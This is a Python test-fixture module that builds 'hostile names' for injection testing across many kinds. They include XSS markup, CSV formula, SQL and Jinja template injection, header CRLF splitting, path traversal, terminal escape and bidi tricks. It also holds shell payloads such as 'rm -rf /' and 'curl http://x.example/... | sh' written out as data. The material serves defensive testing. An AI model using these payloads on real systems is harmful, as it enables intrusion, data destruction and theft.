"""Names that try to be more than names: markup, scripts, formulas, queries, templates, headers, paths, terminal codes.

Each begins with, or carries, its number, so that what was shown or run can be told apart.
"""

from collections.abc import Mapping, Sequence
from random import Random

SENTINEL = "__executed"
"""The page's variable that a script which runs would raise."""

_RUN = f"window.{SENTINEL}=(window.{SENTINEL}||0)+1"
KINDS: Mapping[str, Sequence[str]] = {
    "HTML": (
        '<img src=x onerror="{run}">{n}',
        '"><svg onload={run}>{n}',
        "</td></tr></table><iframe srcdoc='<script>parent.{run}</script>'></iframe>{n}",
        '<a href="javascript:{run}">{n}</a>',
        "' onmouseover='{run}' x='{n}",
        "<base href=//x.example/><form action=//x.example>{n}",
        "<style>@import'//x.example/{n}.css'</style>",
        "<meta http-equiv=refresh content='0;url=//x.example/{n}'>",
        "<details open ontoggle={run}>{n}",
        "&lt;script&gt;{run}&lt;/script&gt;{n}",
    ),
    "script": (
        "<script>{run}</script>{n}",
        "</script><script>{run}//{n}",
        "</script><!--<script>{n}",
        "'-({run})-'{n}",
        '";{run};//{n}',
        "`${{{run}}}`{n}",
        "\\u003cscript\\u003e{run}\\u003c/script\\u003e{n}",
        "]]><script>{run}</script>{n}",
        "</style><script>{run}</script>{n}",
        "javascript:{run}//{n}",
    ),
    "CSV formula": (
        "=1+{n}",
        "+cmd|' /C calc'!A{n}",
        "-2+{n}",
        "@SUM(A1:A{n})",
        '\t=HYPERLINK("http://x.example/{n}")',
        "\r=1+{n}",
        '=IMPORTXML("http://x.example/{n}","//a")',
        "  =1+{n}",
        '"=1+{n}"',
        "={{1;{n}}}",
    ),
    "SQL": (
        "'; drop table gold.daily_costs; -- {n}",
        "' or '1'='1' -- {n}",
        "'); copy (select 1) to '/tmp/{n}'; --",
        "\"; attach '/etc/passwd' as x; -- {n}",
        "' union select * from read_text('/etc/passwd') -- {n}",
        "$$ {n} $$",
        "{n}'||(select 1)||'",
        "\\'; install httpfs; -- {n}",
    ),
    "Jinja": (
        "{{{{ {n} * 7 }}}}",
        "{{% for x in ().__class__.__base__.__subclasses__() %}}{n}{{% endfor %}}",
        "{{{{ config.items() }}}}{n}",
        "{{# {n} #}}",
        "${{{n} * 7}}",
        "%{{ if true }}{n}%{{ endif }}",
        "<%= {n} * 7 %>",
        "#{{{n} * 7}}",
    ),
    "Markdown": (
        "[click](javascript:{run}) {n}",
        "![x](http://x.example/{n}.png)",
        "`code` **bold** _it_ {n}",
        "# heading {n}",
        "| a | b | {n}",
        "<http://x.example/{n}>",
        "http://x.example/{n}",
        "@everyone {n}",
        "[x]: http://x.example/{n}",
        "---\n# {n}",
    ),
    "header": (
        "a\r\nBcc: x{n}@example.org",
        "a\nSubject: other {n}",
        "a\r\n\r\n<html>{n}",
        "a\rX-Other: {n}",
        "=?utf-8?b?PHNjcmlwdD4=?= {n}",
        '"a" <x{n}@example.org>, b',
        "a\u2028Bcc: x{n}@example.org",
        "a\x0bBcc: x{n}@example.org",
    ),
    "path": (
        "../../../../etc/passwd{n}",
        "..\\..\\windows\\{n}",
        "/etc/cron.d/{n}",
        "a/../../{n}",
        "%2e%2e%2f{n}",
        "{n}\x00.html",
        "~/.ssh/{n}",
        "file:///etc/passwd?{n}",
        "CON.{n}",
        "$(touch /tmp/{n})",
        "; rm -rf / # {n}",
        "`id`{n}",
        "a && curl http://x.example/{n} | sh",
    ),
    "ANSI": (
        "\x1b[2J\x1b[H{n}",
        "\x1b]0;title {n}\x07",
        "\x1b]8;;http://x.example/{n}\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31m{n}",
        "\x1b[8m{n}\x1b[0m",
        "a\x08\x08\x08{n}",
        "\x1bP+q{n}\x1b\\",
        "\x1b]52;c;{n}\x07",
        "a\rb{n}",
    ),
    "bidi": (
        "\u202e{n}gnp.exe",
        "\u2066{n}\u2069\u2067x",
        "\u200f{n}\u200e",
        "\ufeff{n}",
        "a\u202a{n}\u202c",
        "\u061c{n}",
        "ａｄｍｉｎ{n}",
        "́" * 80 + "{n}",
        "\U000e0041{n}",
    ),
}


def hostile_names(count: int, seed: int) -> list[str]:
    """So many names, all different, every kind in turn."""
    rng = Random(seed)  # noqa: S311 (it chooses names)
    kinds = list(KINDS.values())
    found: list[str] = []
    for number in range(count):
        template = rng.choice(kinds[number % len(kinds)])
        told = template.replace("{run}", _RUN).replace("{n}", f"n{number}x")
        found.append(told.replace("{{", "{").replace("}}", "}"))
    return found
